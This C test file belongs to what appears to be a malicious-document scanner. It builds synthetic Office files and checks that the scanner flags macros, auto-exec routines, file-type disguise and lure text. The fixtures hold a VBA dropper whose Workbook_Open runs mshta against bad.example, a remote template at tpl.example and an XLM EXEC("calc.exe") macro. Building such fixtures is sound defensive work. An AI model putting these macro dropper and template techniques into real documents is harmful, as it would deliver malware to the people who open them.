/*
 * check_office.c - the Office handlers end to end (documents built here:
 * an OLE2 workbook with a VBA project and an XLM sheet, an OOXML package
 * with a remote template and a vbaProject.bin), document text extraction
 * for the lure, BIFF and SYLK, and the seed sample's disguise (an OLE2
 * workbook named .xlsm) on a corpus file.
 */
#include "config.h"

#include <zlib.h>

#include "office/office.h"
#include "office/ole.h"
#include "office/ooxml.h"
#include "testutil.h"
#include "office/xlm.h"

/* ---- builders ------------------------------------------------------------- */

static void
put16(GByteArray *b, uint16_t v)
{
	uint8_t p[2] = { (uint8_t)v, (uint8_t)(v >> 8) };

	g_byte_array_append(b, p, 2);
}

static void
put32(GByteArray *b, uint32_t v)
{
	uint8_t p[4] = { (uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16),
		(uint8_t)(v >> 24) };

	g_byte_array_append(b, p, 4);
}

static void
set32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)v;
	p[1] = (uint8_t)(v >> 8);
	p[2] = (uint8_t)(v >> 16);
	p[3] = (uint8_t)(v >> 24);
}

/* MS-OVBA container of literal-only chunks (valid, if not small). */
static GByteArray *
ovba_compress(const char *s, size_t len)
{
	GByteArray *b = g_byte_array_new();
	uint8_t sig = 1;

	g_byte_array_append(b, &sig, 1);
	for (size_t off = 0; off < len; off += 3584) {
		size_t n = MIN((size_t)3584, len - off);
		size_t groups = (n + 7) / 8;
		size_t csize = n + groups;
		uint8_t zero = 0;

		put16(b, (uint16_t)(0xB000 | (csize + 2 - 3)));
		for (size_t i = 0; i < n; i += 8) {
			g_byte_array_append(b, &zero, 1);
			g_byte_array_append(b, (const uint8_t *)s + off + i,
			    (guint)MIN((size_t)8, n - i));
		}
	}
	return b;
}

struct cfb_ent {
	const char *name;
	int parent;		/* index in the list, -1 = root */
	bool storage;
	GByteArray *data;	/* streams */
};

/*
 * A compound file with 512-byte sectors and every stream in the FAT
 * (mini stream cutoff 0, which the reader accepts). Entries of one
 * storage are chained through their right sibling pointers.
 */
static GByteArray *
cfb_build(struct cfb_ent *e, int n)
{
	GByteArray *out = g_byte_array_new();
	GByteArray *data = g_byte_array_new();
	uint32_t start[32], nsec_data = 0, ndir, nfat = 1, total;
	uint32_t *fat;
	int last_child[33];

	ck_assert(n < 31);
	for (int i = 0; i < n; i++) {
		uint32_t k;

		start[i] = 0xFFFFFFFEu;
		if (e[i].storage || e[i].data->len == 0)
			continue;
		start[i] = nsec_data;
		k = (e[i].data->len + 511) / 512;
		g_byte_array_append(data, e[i].data->data, e[i].data->len);
		g_byte_array_set_size(data, (nsec_data + k) * 512);
		nsec_data += k;
	}
	ndir = (uint32_t)(n + 1 + 3) / 4;
	total = nfat + ndir + nsec_data;
	ck_assert(total <= 128);
	fat = g_new(uint32_t, 128);
	for (int i = 0; i < 128; i++)
		fat[i] = 0xFFFFFFFFu;
	fat[0] = 0xFFFFFFFDu;
	for (uint32_t s = 1; s < 1 + ndir; s++)
		fat[s] = s + 1 < 1 + ndir ? s + 1 : 0xFFFFFFFEu;
	for (int i = 0; i < n; i++) {
		uint32_t k, base;

		if (start[i] == 0xFFFFFFFEu)
			continue;
		k = (e[i].data->len + 511) / 512;
		base = 1 + ndir + start[i];
		for (uint32_t s = 0; s < k; s++)
			fat[base + s] = s + 1 < k ? base + s + 1 : 0xFFFFFFFEu;
		start[i] = base;
	}
	/* header */
	g_byte_array_set_size(out, 512);
	memset(out->data, 0, 512);
	memcpy(out->data, EMF_OLE_MAGIC, 8);
	out->data[0x18] = 0x3E;
	out->data[0x1A] = 3;
	out->data[0x1C] = 0xFE;
	out->data[0x1D] = 0xFF;
	out->data[0x1E] = 9;
	out->data[0x20] = 6;
	set32(out->data + 0x2C, 1);
	set32(out->data + 0x30, 1);
	set32(out->data + 0x38, 0);
	set32(out->data + 0x3C, 0xFFFFFFFEu);
	set32(out->data + 0x44, 0xFFFFFFFEu);
	for (int i = 0; i < 109; i++)
		set32(out->data + 0x4C + 4 * i, i == 0 ? 0 : 0xFFFFFFFFu);
	for (int i = 0; i < 128; i++)
		put32(out, fat[i]);
	g_free(fat);
	/* directory: entry 0 root, entry i+1 = e[i] */
	for (int i = 0; i < 33; i++)
		last_child[i] = -1;
	{
		uint8_t ents[32][128];
		uint32_t child[33], right[33];

		for (int i = 0; i < 33; i++)
			child[i] = right[i] = 0xFFFFFFFFu;
		for (int i = 0; i < n; i++) {
			int p = e[i].parent + 1;

			if (last_child[p] < 0)
				child[p] = (uint32_t)i + 1;
			else
				right[last_child[p]] = (uint32_t)i + 1;
			last_child[p] = i + 1;
		}
		memset(ents, 0, sizeof(ents));
		for (int i = 0; i <= n; i++) {
			const char *name = i ? e[i - 1].name : "Root Entry";
			size_t l = strlen(name);

			for (size_t k = 0; k < l; k++)
				ents[i][2 * k] = (uint8_t)name[k];
			ents[i][0x40] = (uint8_t)(2 * l + 2);
			ents[i][0x42] = i == 0 ? 5 : e[i - 1].storage ? 1 : 2;
			set32(ents[i] + 0x44, 0xFFFFFFFFu);
			set32(ents[i] + 0x48, right[i]);
			set32(ents[i] + 0x4C, child[i]);
			set32(ents[i] + 0x74, i ? start[i - 1] : 0xFFFFFFFEu);
			set32(ents[i] + 0x78, i && !e[i - 1].storage ?
			    e[i - 1].data->len : 0);
		}
		g_byte_array_append(out, &ents[0][0], ndir * 512);
	}
	g_byte_array_append(out, data->data, data->len);
	g_byte_array_free(data, TRUE);
	return out;
}

static void
rec_add(GByteArray *b, uint16_t id, const void *d, uint32_t n)
{
	put16(b, id);
	put32(b, n);
	g_byte_array_append(b, d, n);
}

static GByteArray *
vba_dir(const char *module)
{
	GByteArray *d = g_byte_array_new();
	uint8_t cp[2] = { 0xE4, 0x04 }, off[4] = { 0, 0, 0, 0 };
	GByteArray *c;

	rec_add(d, 0x0003, cp, 2);
	rec_add(d, 0x0019, module, (uint32_t)strlen(module));
	rec_add(d, 0x001A, module, (uint32_t)strlen(module));
	rec_add(d, 0x0031, off, 4);
	rec_add(d, 0x0021, "", 0);
	rec_add(d, 0x002B, "", 0);
	rec_add(d, 0x0010, "", 0);
	c = ovba_compress((const char *)d->data, d->len);
	g_byte_array_free(d, TRUE);
	return c;
}

static const char dropper[] =
    "Attribute VB_Name = \"Module1\"\r\n"
    "Sub Workbook_Open()\r\n"
    "  Shell \"mshta http://bad.example/x.hta\"\r\n"
    "End Sub\r\n";

/* BIFF8 workbook globals: BOF, BoundSheet8 "Macro1" (dt 1), Auto_Open. */
static GByteArray *
biff_book(bool filepass)
{
	GByteArray *b = g_byte_array_new();
	uint8_t bof[16] = { 0x00, 0x06, 0x05, 0x00 };
	uint8_t sheet[] = { 0, 0, 0, 0, 0x01, 0x01, 6, 0, 'M', 'a', 'c',
		'r', 'o', '1' };
	uint8_t lbl[16] = { 0x20, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
		0x00, 0x01 };
	uint8_t fp[6] = { 1, 0, 2, 0, 2, 0 };

	put16(b, 0x0809);
	put16(b, sizeof(bof));
	g_byte_array_append(b, bof, sizeof(bof));
	if (filepass) {
		put16(b, 0x002F);
		put16(b, sizeof(fp));
		g_byte_array_append(b, fp, sizeof(fp));
	}
	put16(b, 0x0085);
	put16(b, sizeof(sheet));
	g_byte_array_append(b, sheet, sizeof(sheet));
	put16(b, 0x0018);
	put16(b, sizeof(lbl));
	g_byte_array_append(b, lbl, sizeof(lbl));
	put16(b, 0x000A);
	put16(b, 0);
	return b;
}

static GByteArray *
macro_workbook(bool with_book)
{
	struct cfb_ent e[5];
	GByteArray *src = ovba_compress(dropper, strlen(dropper));
	GByteArray *dir = vba_dir("Module1");
	GByteArray *book = biff_book(false);
	GByteArray *empty = g_byte_array_new();
	GByteArray *r;
	int n = 0;

	if (with_book)
		e[n++] = (struct cfb_ent){ "Workbook", -1, false, book };
	e[n] = (struct cfb_ent){ "_VBA_PROJECT_CUR", -1, true, empty };
	e[n + 1] = (struct cfb_ent){ "VBA", n, true, empty };
	e[n + 2] = (struct cfb_ent){ "dir", n + 1, false, dir };
	e[n + 3] = (struct cfb_ent){ "Module1", n + 1, false, src };
	r = cfb_build(e, n + 4);
	g_byte_array_free(src, TRUE);
	g_byte_array_free(dir, TRUE);
	g_byte_array_free(book, TRUE);
	g_byte_array_free(empty, TRUE);
	return r;
}

/* A stored zip (method 0). */
static void
zip_add(GByteArray *z, GByteArray *cd, const char *name, const void *d,
    size_t len)
{
	uint32_t crc = (uint32_t)crc32(0, d, (uInt)len);
	uint32_t off = z->len;
	uint16_t nl = (uint16_t)strlen(name);

	put32(z, 0x04034b50);
	put16(z, 20); put16(z, 0); put16(z, 0); put16(z, 0); put16(z, 0);
	put32(z, crc); put32(z, (uint32_t)len); put32(z, (uint32_t)len);
	put16(z, nl); put16(z, 0);
	g_byte_array_append(z, (const uint8_t *)name, nl);
	g_byte_array_append(z, d, (guint)len);
	put32(cd, 0x02014b50);
	put16(cd, 20); put16(cd, 20); put16(cd, 0); put16(cd, 0);
	put16(cd, 0); put16(cd, 0);
	put32(cd, crc); put32(cd, (uint32_t)len); put32(cd, (uint32_t)len);
	put16(cd, nl); put16(cd, 0); put16(cd, 0); put16(cd, 0); put16(cd, 0);
	put32(cd, 0); put32(cd, off);
	g_byte_array_append(cd, (const uint8_t *)name, nl);
}

static void
zip_finish(GByteArray *z, GByteArray *cd, uint16_t n)
{
	uint32_t off = z->len;

	g_byte_array_append(z, cd->data, cd->len);
	put32(z, 0x06054b50);
	put16(z, 0); put16(z, 0); put16(z, n); put16(z, n);
	put32(z, cd->len); put32(z, off); put16(z, 0);
}

/* ---- end to end ------------------------------------------------------------ */

static char *
scan_json(const uint8_t *d, size_t len, const char *name)
{
	struct emf_engine *e = tu_engine(NULL);
	struct emf_report *r = NULL;
	char *json;

	ck_assert_int_eq(emf_scan_file(e, d, len, name, NULL, &r), EMF_OK);
	json = emf_report_json(r, false);
	emf_report_free(r);
	emf_engine_unref(e);
	return json;
}

static void
want_in(const char *json, const char *const *want, bool present)
{
	for (size_t i = 0; want[i] != NULL; i++)
		ck_assert_msg((strstr(json, want[i]) != NULL) == present,
		    "report %s %s:\n%.3000s", present ? "lacks" : "has",
		    want[i], json);
}

START_TEST(ole_workbook_named_xlsm)
{
	GByteArray *b = macro_workbook(true);
	char *json = scan_json(b->data, b->len, "invoice.xlsm");
	const char *const want[] = { "\"OFFICE_MACRO\"", "\"MACRO_AUTOEXEC\"",
		"\"MACRO_SUSPICIOUS\"", "\"MACRO_URL\"", "\"XLM_MACRO\"",
		"\"FILE_TYPE_MISMATCH\"", "\"OLE2 Excel\"", "\"Macro1 (hidden)\"",
		"\"Workbook_Open\"", "\"mshta\"",
		"\"http://bad.example/x.hta\"", "\"vba_sha256\":\"", NULL };

	want_in(json, want, true);
	g_free(json);
	g_byte_array_free(b, TRUE);
}
END_TEST

START_TEST(ooxml_remote_template_and_vba)
{
	GByteArray *z = g_byte_array_new(), *cd = g_byte_array_new();
	GByteArray *vba = macro_workbook(false);
	const char *ct = "<?xml version=\"1.0\"?><Types xmlns=\"x\"/>";
	const char *doc = "<w:document><w:body><w:p><w:r><w:t>Click "
	    "&quot;Enable Editing&quot; &amp; then</w:t></w:r></w:p>"
	    "</w:body></w:document>";
	const char *rels = "<Relationships><Relationship Id=\"rId1\" "
	    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
	    "relationships/attachedTemplate\" Target=\"http://tpl.example/"
	    "t.dotm?a=1&amp;b=2\" TargetMode=\"External\"/></Relationships>";
	char *json;
	const char *const want[] = { "\"OOXML Word\"",
		"\"attachedTemplate: http://tpl.example/t.dotm?a=1&b=2\"",
		"\"OFFICE_MACRO\"", "word/vbaProject.bin",
		NULL };
	const char *const not[] = { "\"FILE_TYPE_MISMATCH\"",
		"\"ARCHIVE_MALFORMED\"", NULL };

	zip_add(z, cd, "[Content_Types].xml", ct, strlen(ct));
	zip_add(z, cd, "word/document.xml", doc, strlen(doc));
	zip_add(z, cd, "word/_rels/settings.xml.rels", rels, strlen(rels));
	zip_add(z, cd, "word/vbaProject.bin", vba->data, vba->len);
	zip_finish(z, cd, 4);
	json = scan_json(z->data, z->len, "report.docx");
	want_in(json, want, true);
	want_in(json, not, false);
	g_free(json);
	g_byte_array_free(z, TRUE);
	g_byte_array_free(cd, TRUE);
	g_byte_array_free(vba, TRUE);
}
END_TEST

/* The seed sample's disguise, on a real workbook of the corpus. */
START_TEST(corpus_xls_named_xlsm)
{
	char *path = tu_corpus("tika-office/testEXCEL_macro.xls");
	char *alt = path ? NULL :
	    tu_srcpath("../../shared/corpus/tika-office/testEXCEL_macro.xls");
	gchar *d = NULL;
	gsize len;
	char *json;
	const char *const want[] = { "\"FILE_TYPE_MISMATCH\"",
		"\"OFFICE_MACRO\"", NULL };

	if (!g_file_get_contents(path ? path : alt, &d, &len, NULL)) {
		g_free(path);
		g_free(alt);
		return;		/* corpus absent: skipped */
	}
	json = scan_json((const uint8_t *)d, len, "Rechnung.xlsm");
	want_in(json, want, true);
	g_free(json);
	g_free(d);
	g_free(path);
	g_free(alt);
}
END_TEST

/* ---- text for the lure ------------------------------------------------------ */

static void
append_utf16(GByteArray *b, const char *utf8)
{
	glong n;
	gunichar2 *u = g_utf8_to_utf16(utf8, -1, NULL, &n, NULL);

	for (glong i = 0; i < n; i++)
		put16(b, u[i]);
	g_free(u);
}

START_TEST(text_runs_hold_lure)
{
	const char *const phrases[] = { "コンテンツの有効化",
		"編集を有効にする", "Enable Content", "Abilita modifiche",
		NULL };
	GByteArray *b = g_byte_array_new();
	uint8_t junk[] = { 0x00, 0x01, 0x9F, 0x02, 0x00, 0xFF, 0x07 };
	const char *latin = "Please click Enable Editing above";
	const char *latin1 = "Fai clic su \xe8 Abilita contenuto";	/* è */
	GString *t = g_string_new(NULL);

	/* UTF-16LE runs at even and odd offsets, between binary junk. */
	g_byte_array_append(b, junk, sizeof(junk));
	append_utf16(b, phrases[0]);
	g_byte_array_append(b, junk, 4);
	append_utf16(b, phrases[1]);
	g_byte_array_append(b, junk, 3);
	append_utf16(b, "To view, click Enable Content");
	g_byte_array_append(b, junk, sizeof(junk));
	append_utf16(b, "Fare clic su Abilita modifiche");
	g_byte_array_append(b, junk, 2);
	g_byte_array_append(b, (const uint8_t *)latin, strlen(latin));
	g_byte_array_append(b, junk, 2);
	g_byte_array_append(b, (const uint8_t *)latin1, strlen(latin1));
	g_byte_array_append(b, junk, 1);

	emf_office_text_runs(b->data, b->len, t, 1 << 20);
	for (size_t i = 0; phrases[i] != NULL; i++)
		ck_assert_msg(strstr(t->str, phrases[i]) != NULL,
		    "text lacks %s; got:\n%s", phrases[i], t->str);
	ck_assert_msg(strstr(t->str, "Enable Editing above") != NULL,
	    "8-bit run missing; got:\n%s", t->str);
	ck_assert_msg(strstr(t->str, "su è Abilita contenuto") != NULL,
	    "Latin-1 run not decoded; got:\n%s", t->str);
	ck_assert(g_utf8_validate(t->str, (gssize)t->len, NULL));
	/* The cap holds, on a character boundary. */
	g_string_truncate(t, 0);
	emf_office_text_runs(b->data, b->len, t, 10);
	ck_assert_uint_le(t->len, 10);
	ck_assert(g_utf8_validate(t->str, (gssize)t->len, NULL));
	g_string_free(t, TRUE);
	g_byte_array_free(b, TRUE);
}
END_TEST

START_TEST(xml_text_decodes_entities)
{
	const char *xml = "<?xml version=\"1.0\"?><w:document><w:body>"
	    "<w:p><w:r><w:t>Click &quot;Enable&#x20;Editing&quot;</w:t>"
	    "</w:r><w:r><w:tab/><w:t xml:space=\"preserve\"> &amp; "
	    "more</w:t></w:r></w:p><!-- <w:t>not this</w:t> -->"
	    "<w:p><w:r><w:instrText>HYPERLINK</w:instrText><w:t>編集を"
	    "有効にする&#12354;</w:t></w:r></w:p><w:p><w:r><w:t>cut";
	GString *t = g_string_new(NULL);

	emf_ooxml_xml_text(xml, strlen(xml), "t", t, 1 << 20);
	ck_assert_msg(strstr(t->str, "Click \"Enable Editing\"") != NULL &&
	    strstr(t->str, " & more") != NULL, "got: %s", t->str);
	ck_assert_msg(strstr(t->str, "\n編集を有効にするあ") != NULL,
	    "got: %s", t->str);
	ck_assert_msg(strstr(t->str, "not this") == NULL &&
	    strstr(t->str, "HYPERLINK") == NULL, "got: %s", t->str);
	g_string_free(t, TRUE);
}
END_TEST

/* Numeric references past U+10FFFF do not wrap to ASCII (&#x100000041;
 * used to decode to "A"); leading zeros are fine; too many digits are
 * no reference at all. */
START_TEST(xml_text_numeric_reference_overflow)
{
	const char *xml = "<w:t>[&#x100000041;][&#4294967361;][&#x110000;]"
	    "[&#x10FFFF;][&#x0000000042;][&#0000000067;]"
	    "[&#x00000000000000000000000000000000044;]</w:t>";
	GString *t = g_string_new(NULL);

	emf_ooxml_xml_text(xml, strlen(xml), "t", t, 1 << 20);
	ck_assert_msg(strstr(t->str, "[\xef\xbf\xbd][\xef\xbf\xbd]"
	    "[\xef\xbf\xbd][\xf4\x8f\xbf\xbf][B][C]") != NULL,
	    "got: %s", t->str);
	ck_assert_msg(strstr(t->str, "[&#x000") != NULL, "got: %s", t->str);
	ck_assert_msg(strstr(t->str, "A") == NULL, "wrapped: %s", t->str);
	g_string_free(t, TRUE);
}
END_TEST

/* ---- BIFF and SYLK ----------------------------------------------------------- */

START_TEST(biff_walk_sheets_names_filepass)
{
	GByteArray *b = biff_book(false);
	struct emf_biff_info bi;

	ck_assert(emf_biff_walk(b->data, b->len, &bi));
	ck_assert_uint_eq(bi.biff, 8);
	ck_assert_msg(bi.macro_sheets && bi.macro_sheets->len == 1 &&
	    strcmp(g_ptr_array_index(bi.macro_sheets, 0),
	    "Macro1 (hidden)") == 0, "macro sheet not found");
	ck_assert_msg(bi.auto_names && strcmp(g_ptr_array_index(
	    bi.auto_names, 0), "Auto_Open") == 0, "Auto_Open not found");
	ck_assert(!bi.encrypted);
	emf_biff_info_clear(&bi);
	/* Every truncation: no overrun, and marked malformed if cut in a
	 * record. */
	for (size_t n = 0; n < b->len; n++) {
		if (emf_biff_walk(b->data, n, &bi))
			emf_biff_info_clear(&bi);
	}
	g_byte_array_free(b, TRUE);

	b = biff_book(true);
	ck_assert(emf_biff_walk(b->data, b->len, &bi));
	ck_assert(bi.encrypted);
	ck_assert_str_eq(bi.encryption, "RC4 CryptoAPI");
	/* After FilePass the sheet record is ciphertext: not read. */
	ck_assert_ptr_null(bi.macro_sheets);
	emf_biff_info_clear(&bi);
	g_byte_array_free(b, TRUE);
}
END_TEST

START_TEST(sylk_macro_sheet)
{
	const char *slk = "ID;PWXL;N;E\r\nO;L;E;D;V0\r\nNN;NAuto_Open;ER1C1\r\n"
	    "C;Y1;X1;EEXEC(\"calc.exe\")\r\nE\r\n";
	const char *plain = "ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nC;Y2;X1;ESUM(R1C1)"
	    "\r\nE\r\n";
	struct emf_biff_info bi;
	GString *f = g_string_new(NULL);

	ck_assert(emf_sylk_macro((const uint8_t *)slk, strlen(slk), &bi, f));
	ck_assert_ptr_nonnull(bi.macro_sheets);
	ck_assert_ptr_nonnull(strstr(f->str, "EXEC(\"calc.exe\")"));
	emf_biff_info_clear(&bi);
	ck_assert(!emf_sylk_macro((const uint8_t *)plain, strlen(plain), &bi,
	    NULL));
	emf_biff_info_clear(&bi);
	g_string_free(f, TRUE);
}
END_TEST

static Suite *
office_suite(void)
{
	Suite *s = suite_create("office");
	TCase *tc = tcase_create("core");

	tcase_add_test(tc, ole_workbook_named_xlsm);
	tcase_add_test(tc, ooxml_remote_template_and_vba);
	tcase_add_test(tc, corpus_xls_named_xlsm);
	tcase_add_test(tc, text_runs_hold_lure);
	tcase_add_test(tc, xml_text_decodes_entities);
	tcase_add_test(tc, xml_text_numeric_reference_overflow);
	tcase_add_test(tc, biff_walk_sheets_names_filepass);
	tcase_add_test(tc, sylk_macro_sheet);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return tu_run(office_suite());
}
